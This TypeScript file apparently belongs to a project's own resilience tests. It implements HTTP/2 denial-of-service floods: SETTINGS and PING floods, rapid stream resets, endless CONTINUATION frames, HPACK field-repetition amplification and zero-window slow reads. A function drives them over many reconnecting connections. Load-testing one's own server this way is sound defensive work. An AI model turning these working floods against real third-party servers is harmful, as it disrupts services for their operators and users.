/**
 * Attacks that HTTP/2 alone makes possible: much to do for the server in few bytes of the client.
 *
 * Used by `npm run attack` against a process, and by a test against a gateway. Who is sent away comes again, as an
 * attacker would. What they show is judged by who calls them.
 */
import type { Duplex } from 'node:stream'
import { pause } from '../deadline.ts'
import {
  AGAIN,
  continuation,
  data,
  field,
  headers,
  INITIAL_WINDOW_SIZE,
  ping,
  PREFACE,
  priority,
  rememberedField,
  requestBlock,
  reset,
  settings,
  unknown,
  windowUpdate,
} from './http2-frames.ts'

export interface Http2Flood {
  readonly name: string
  /** Behind the preface and the settings. */
  readonly opening?: (key: string) => Buffer
  /** Sent over and over. @param stream gives a new one each time it is called */
  readonly packet: (stream: () => number, key: string) => Buffer
  /** Whether it takes what comes; false: the server has to keep it. */
  readonly isRead?: boolean
}

const times = (count: number, make: () => Buffer) =>
  Buffer.concat(Array.from({ length: count }, make))
const EMPTY = Buffer.alloc(0)
const GET_LINK = requestBlock('GET', '/abc')
/** The longest answer that needs no key. */
const GET_MUCH = requestBlock('GET', '/openapi.json')
const NO_WINDOW = settings([INITIAL_WINDOW_SIZE, 0])
const FIELD_BYTES = 8_000
/** Kept open by each connection, for what is sent into it. */
const OPEN_STREAM = 1

const openPost = (key: string) =>
  headers(
    OPEN_STREAM,
    Buffer.concat([requestBlock('POST', '/api/links'), field('x-api-key', key)]),
    {
      isLast: false,
    },
  )

export const HTTP2_FLOODS: readonly Http2Flood[] = [
  { name: 'settings', packet: () => times(500, () => settings([INITIAL_WINDOW_SIZE, 65_535])) },
  { name: 'settings without any', packet: () => times(500, () => settings()) },
  {
    name: 'settings, their answers read',
    isRead: true,
    packet: () => times(500, () => settings()),
  },
  { name: 'pings', packet: () => times(500, ping) },
  { name: 'pings, their answers read', isRead: true, packet: () => times(500, ping) },
  { name: 'priorities', packet: (stream) => times(500, () => priority(stream())) },
  { name: 'frames of no known type', packet: () => times(500, unknown) },
  { name: 'small windows', packet: () => times(500, () => windowUpdate(0, 1)) },
  {
    name: 'requests taken back',
    isRead: true,
    packet: (stream) =>
      times(100, () => {
        const id = stream()
        return Buffer.concat([headers(id, GET_LINK), reset(id)])
      }),
  },
  {
    name: 'requests that the server must take back',
    isRead: true,
    packet: (stream) =>
      times(100, () => {
        const id = stream()
        return Buffer.concat([headers(id, GET_LINK, { isLast: false }), windowUpdate(id, 0)])
      }),
  },
  {
    name: 'a head without end',
    opening: () => headers(OPEN_STREAM, GET_LINK, { isWhole: false }),
    packet: () => times(50, () => continuation(OPEN_STREAM, field('x', 'y'.repeat(1_000)))),
  },
  {
    name: 'a head of nothing without end',
    opening: () => headers(OPEN_STREAM, GET_LINK, { isWhole: false }),
    packet: () => times(2_000, () => continuation(OPEN_STREAM, EMPTY)),
  },
  {
    name: 'long heads',
    isRead: true,
    packet: (stream) =>
      headers(stream(), Buffer.concat([GET_LINK, field('x', 'y'.repeat(FIELD_BYTES))])),
  },
  {
    name: 'heads of many fields',
    isRead: true,
    packet: (stream) =>
      headers(stream(), Buffer.concat([GET_LINK, times(2_000, () => field('x', 'y'))])),
  },
  {
    name: 'heads that repeat a long field by a byte',
    isRead: true,
    packet: (stream) => {
      const long = rememberedField('x', 'y'.repeat(3_000))
      return headers(stream(), Buffer.concat([GET_LINK, long, Buffer.alloc(8_000, AGAIN)]))
    },
  },
  {
    name: 'a body of nothing without end',
    opening: openPost,
    packet: () => times(2_000, () => data(OPEN_STREAM, EMPTY)),
  },
  {
    name: 'bodies without end',
    isRead: true,
    packet: (stream, key) => {
      const head = Buffer.concat([requestBlock('POST', '/api/links'), field('x-api-key', key)])
      const id = stream()
      return Buffer.concat([headers(id, head, { isLast: false }), data(id, Buffer.alloc(600, ' '))])
    },
  },
  {
    name: 'answers that no window lets go',
    opening: () => NO_WINDOW,
    isRead: true,
    packet: (stream) => times(10, () => headers(stream(), GET_MUCH)),
  },
  {
    name: 'answers that go byte by byte',
    opening: () => NO_WINDOW,
    isRead: true,
    packet: (stream) => {
      const id = stream()
      return Buffer.concat([headers(id, GET_MUCH), times(50, () => windowUpdate(id, 1))])
    },
  },
  {
    name: 'answers that nobody reads',
    packet: (stream) => times(10, () => headers(stream(), GET_MUCH)),
  },
]

export interface Http2FloodOptions {
  readonly connections: number
  readonly ms: number
  readonly key: string
  /** One whose handshake is over, or has failed. */
  readonly open: () => Promise<Duplex>
}

/** @returns how often a client was sent away */
export async function floodHttp2(flood: Http2Flood, options: Http2FloodOptions): Promise<number> {
  const { connections, ms, key, open } = options
  const end = performance.now() + ms
  let sentAway = 0
  const client = async () => {
    while (performance.now() < end) {
      const socket = await open().catch(() => undefined)
      // Where it is turned away, too.
      if (socket === undefined) {
        await pause(1)
        continue
      }
      if (flood.isRead === true) socket.resume()
      else socket.pause()
      let next = OPEN_STREAM
      const stream = () => (next += 2)
      const opening = flood.opening?.(key) ?? EMPTY
      socket.write(Buffer.concat([PREFACE, settings(), opening]))
      while (performance.now() < end && socket.writable) {
        if (!socket.writableNeedDrain) socket.write(flood.packet(stream, key))
        await pause(1)
      }
      if (!socket.writable) sentAway++
      socket.destroy()
    }
  }
  await Promise.all(Array.from({ length: connections }, client))
  return sentAway
}
